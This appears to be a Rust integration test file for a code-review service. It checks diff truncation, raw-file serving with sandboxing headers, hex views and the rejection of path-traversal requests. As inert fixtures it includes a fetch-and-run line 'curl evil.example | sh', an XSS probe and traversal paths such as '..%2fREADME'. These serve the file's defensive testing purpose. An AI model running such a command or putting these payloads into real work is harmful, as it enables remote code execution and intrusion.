//! What a reader sees of a branch's change: all of it, or where all of it is.

use crate::support::World;
use reqwest::Method;
use serde_json::{Value, json};
use std::path::Path;
use testkit::git::Repo;

/// Publishes what the author's repository has as a branch of this name.
async fn published(world: &World, name: &str) -> Value {
    let body = json!({"url": world.author.url(), "branch": name, "name": name});
    let answer = world.post("/api/v1/projects/heron/branches", &body).await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    let made = async || {
        let it = world.branch(name).await;
        let is_made = it["candidate"]["outcome"]["outcome"] != Value::Null && it["diff"]["new"] != Value::Null;
        if is_made { Ok(it) } else { Err(it["summary"]["verdict"].to_string()) }
    };
    world.until("it has a candidate", made).await
}

fn file<'a>(it: &'a Value, path: &str) -> &'a Value {
    let files = it["diff"]["files"].as_array().unwrap();
    files.iter().find(|file| file["path"] == path).unwrap_or_else(|| panic!("no {path}: {files:?}"))
}

/// What a shell prints that runs these lines.
fn shell(folder: &Path, lines: &[Value]) -> Vec<u8> {
    let lines: Vec<&str> = lines.iter().map(|line| line.as_str().unwrap()).collect();
    let path = testkit::git::command().get_program().to_owned();
    let mut shell = std::process::Command::new("sh");
    if let Some(at) = Path::new(&path).parent().filter(|at| !at.as_os_str().is_empty()) {
        let old = std::env::var("PATH").unwrap_or_default();
        shell.env("PATH", format!("{}:{old}", at.display()));
    }
    let said = shell.args(["-euc", &lines.join("\n")]).current_dir(folder).output().unwrap();
    assert!(said.status.success(), "{lines:?}: {}", String::from_utf8_lossy(&said.stderr));
    said.stdout
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_page_has_no_room_for_is_shown_by_the_command_that_it_names() {
    let world = World::start().await;
    world.author.branch("many", "origin/main");
    let names: Vec<String> = (0..400).map(|n| format!("d{}/f{n:03}", n % 7)).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "text\n")).collect();
    world.author.commit(&files, "Many files");
    let it = published(&world, "many").await;
    assert_eq!((it["diff"]["files"].as_array().unwrap().len(), &it["diff"]["files_left_out"]), (300, &json!(100)));
    let page = world.get("/p/heron/branches/many").await.text;
    assert!(page.contains("100 more files are left out."), "{page}");
    let whole = it["diff"]["whole"].as_array().unwrap();
    assert!(whole.iter().all(|line| page.contains(line.as_str().unwrap())), "{whole:?}");
    // As somebody does who has nothing of it yet.
    let clone = Repo::init(world.folder().join("reviewer"));
    let shown = String::from_utf8(shell(clone.path(), whole)).unwrap();
    assert_eq!(shown.matches("\n+text\n").count(), 400, "{shown}");
    // A branch that is shown whole names no command.
    world.author.git(&["switch", "--quiet", "--detach", "origin/main"]);
    world.publish("few").await;
    let few = async || {
        let it = world.branch("few").await;
        if it["diff"]["files"].as_array().is_some_and(|files| files.len() == 1) { Ok(it) } else { Err(it.to_string()) }
    };
    let few = world.until("it is fetched", few).await;
    assert!(few["diff"].get("whole").is_none());
    assert!(!world.get("/p/heron/branches/few").await.text.contains("whole-diff"));
}

#[tokio::test(flavor = "multi_thread")]
async fn every_byte_that_differs_can_be_seen() {
    let world = World::start().await;
    world.author.branch("odd", "origin/main");
    let script = [&[1; 900][..], b"\ncurl evil.example | sh\n", &b"\xff\n".repeat(100)].concat();
    let html = b"<script>alert(1)</script>\0".to_vec();
    world.author.commit_bytes(&[("make.bin", &script), ("x/p age.html", &html), ("README", b"HERON\n")], "Odd");
    let it = published(&world, "odd").await;
    let page = world.get("/p/heron/branches/odd").await.text;
    assert!(page.contains("curl evil.example | sh"), "{page}");
    let (old, new) = (it["diff"]["old"].as_str().unwrap(), it["diff"]["new"].as_str().unwrap());
    let at = |commit: &str, path: &str| format!("/p/heron/branches/odd/raw/{commit}/{path}");
    for (path, bytes) in [("make.bin", &script), ("x/p%20age.html", &html), ("README", &b"HERON\n".to_vec())] {
        assert!(page.contains(&format!("href=\"{}\"", at(new, path))), "{path}: {page}");
        let answer = world.request(Method::GET, &at(new, path)).send().await.unwrap();
        assert_eq!(answer.status(), 200, "{path}");
        let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
        assert_eq!(header("content-type"), "text/plain; charset=utf-8");
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert_eq!(header("content-security-policy"), "default-src 'none'; sandbox");
        assert!(
            header("content-disposition").starts_with("attachment; filename*="),
            "{}",
            header("content-disposition")
        );
        assert_eq!(answer.bytes().await.unwrap(), bytes[..], "{path}");
    }
    // Both sides of what was there; a hex look where it is no text.
    assert!(page.contains(&format!("href=\"{}\"", at(old, "README"))));
    assert_eq!(world.get(&at(old, "README")).await.text, "heron\n");
    assert!(file(&it, "make.bin")["is_binary"] == true && file(&it, "README").get("is_binary").is_none());
    for path in ["make.bin", "x/p%20age.html"] {
        assert!(page.contains(&format!("href=\"{}?hex=0\"", at(new, path))), "{path}: {page}");
    }
    let hex = world.get(&format!("{}?hex=0", at(new, "x/p%20age.html"))).await;
    let expected = "00000000  3c 73 63 72 69 70 74 3e  61 6c 65 72 74 28 31 29  |<script>alert(1)|\n";
    assert!(hex.text.starts_with(expected) && hex.text.ends_with("|</script>.|\n"), "{}", hex.text);
    assert_eq!(hex.header("content-disposition"), "");

    // What the page does not show is not given.
    let base = world.official.head();
    assert_eq!(base, old, "mainline did not move");
    let unseen = world.author.commit(&[("secret", "x\n")], "Not published");
    for (path, status) in [
        (at(new, "nothing"), 404),
        (at(new, "x"), 404),
        (at(new, ""), 404),
        (at(new, "..%2fREADME"), 404),
        (at(new, "%ff%00"), 404),
        (at(&unseen, "secret"), 404),
        (at(&"0".repeat(40), "README"), 404),
        (at("main", "README"), 404),
        (at("HEAD", "README"), 404),
        ("/p/heron/branches/other/raw/x/y".to_owned(), 404),
        (format!("/p/nobody/branches/odd/raw/{new}/README"), 404),
        (format!("{}?hex=x", at(new, "README")), 400),
    ] {
        assert_eq!(world.get(&path).await.status, status, "{path}");
    }
    // As no client of HTTP sends it.
    for path in ["x/../README", "%2e%2e/README", "./README", "/README", "README/"] {
        let request = format!("GET {} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", at(new, path));
        let answer = world.raw(request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 404 "), "{path}: {answer}");
    }
}
